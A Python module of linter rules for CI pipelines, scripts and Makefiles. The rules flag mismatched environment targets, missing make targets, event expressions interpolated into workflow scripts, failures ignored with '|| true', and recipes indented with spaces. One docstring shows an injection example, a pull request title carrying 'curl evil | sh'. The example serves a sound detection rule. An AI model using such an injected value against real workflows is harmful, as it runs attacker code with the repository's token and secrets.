"""Pipelines, scripts and Makefiles: what they run is there, is for the environment that its name says, and may fail."""

import re
from collections.abc import Iterator, Sequence

from stead.check.context import Context, place
from stead.check.rule import rule
from stead.check.service.delivery import deliveries
from stead.model import Environment, Problem, SourceLocation
from stead.render.environment_alias import short

DELIVERS = re.compile(r"\b(?:ship|deploy|up|apply|upgrade|rollout|push|migrate|restore|compose)\b|compose\.|--env|ENV")
WORD = re.compile(r"[a-z0-9]+")
LONG = {"production": "prod", "stage": "staging", "development": "dev"}


@rule("FILE026")
def targets_ship_what_they_say(context: Context) -> Iterator[Problem]:
    """A target of make that has an environment's name works with that environment.

    `ship-prod` with `--env staging` in its recipe, or with `compose.stage.yaml`, is what is left of a copied target:
    production stays as it was, and everybody believes that it was shipped. Name the environment of the target.
    """
    names = {word: each.name for each in _environments(context) for word in (each.name, short(each.name))}
    names |= {long: each for long, each in LONG.items() if each in names.values()}
    for file, at in context.each("pipeline"):
        kind, _, target = at.more.partition(" ")
        named = {names[word] for word in WORD.findall(target.lower()) if word in names} if kind == "recipe" else set()
        if len(named) != 1 or not DELIVERS.search(at.text):
            continue
        mentioned = {names[word] for word in WORD.findall(_without_comment(at.text).lower()) if word in names} - named
        if mentioned and not named & {names.get(word) for word in WORD.findall(at.text.lower())}:
            message = f"the target {target} works with {sorted(mentioned)[0]}"
            yield Problem("FILE026", message, place(file, at), f"name {sorted(named)[0]} here, or rename the target")


def _environments(context: Context) -> Sequence[Environment]:
    return context.backend.environments if context.backend else ()


def _without_comment(text: str) -> str:
    return text.partition(" #")[0]


@rule("FILE027")
def targets_of_make_are_there(context: Context) -> Iterator[Problem]:
    """A target of make that a pipeline or a script calls is in the Makefile.

    `make: *** No rule to make target` ends the pipeline at that step, also the one that nobody has run for a year.
    Looked up in the Makefile at the top, and in what it includes. Fix the name, or add the target.
    """
    makefile = next(
        (path for name in ("Makefile", "GNUmakefile") if (path := context.root / name) in context.tree.known), None
    )
    text = context.tree.text(makefile) if makefile else None
    if makefile is None or text is None or "%" in text or "$(eval" in text:
        return  # a pattern makes targets that no line names
    included = "include " in text
    files = [path for path in context.tree.files if path == makefile or (included and path.suffix == ".mk")]
    targets = {at.text for path in files for at in context.facts(path).pipeline if at.more == "target"}
    for file, at in context.each("pipeline"):
        here = file == makefile or file.parent == context.root or ".github" in file.parts
        if at.more == "make" and here and at.text not in targets and not (context.root / at.text).exists():
            yield Problem(
                "FILE027",
                f"the Makefile has no target {at.text}",
                place(file, at),
                _fix(at.text),
                SourceLocation(str(makefile), 1, 1),
            )


def _fix(target: str) -> str:
    return f"add the target {target}, or fix its name"


OF_A_BASE = frozenset({"github.base_ref", "github.event.pull_request.base.ref"})


@rule("FILE028")
def scripts_take_no_expressions(context: Context) -> Iterator[Problem]:
    """A script of a workflow has no expression of the event in it.

    `${{ github.event.pull_request.title }}` is put into the script before a shell reads it: a title of
    `"; curl evil | sh; "` is run, with the workflow's token and secrets. Give it by `env:`, and write `"$TITLE"`. The
    branch that a pull request is for, which only who may write can name, is told with `--strict`.
    """
    for file, at in context.everywhere("pipeline"):
        if at.more == "expression":
            message = f"{at.text} becomes a part of this script, and another person chooses the value"
            mend, sure = 'give it by env:, and write "$NAME" in the script', at.text not in OF_A_BASE
            yield Problem("FILE028", message, place(file, at), mend, sure=sure)


@rule("FILE029")
def deliveries_may_fail(context: Context) -> Iterator[Problem]:
    """The failure of a delivery, a check, a backup or a smoke test is not ignored.

    With `|| true` behind it the pipeline is green, whatever became of the version, and anyone who looks sees no reason
    to look further. Remove it; what may fail on purpose gets a step of its own that says why.
    """
    known = {path for path, _ in deliveries(context)}  # SERVICE025 names what these ignore
    for file, at in context.everywhere("pipeline"):
        if at.more == "forgiven" and file not in known:
            yield Problem(
                "FILE029", f"the failure of {at.text!r} is passed over", place(file, at), "remove what is behind ||"
            )


@rule("FILE037")
def recipes_begin_with_a_tab(context: Context) -> Iterator[Problem]:
    """A line of a Makefile's recipe begins with a tab.

    An editor that writes blanks makes it `*** missing separator`, and no target of the file can be made any more.
    Write a tab.
    """
    for file, at in context.each("faults"):
        if at.more == "make-blanks":
            yield Problem("FILE037", at.text, place(file, at), "write a tab")


RULES = (
    targets_ship_what_they_say,
    targets_of_make_are_there,
    scripts_take_no_expressions,
    deliveries_may_fail,
    recipes_begin_with_a_tab,
)
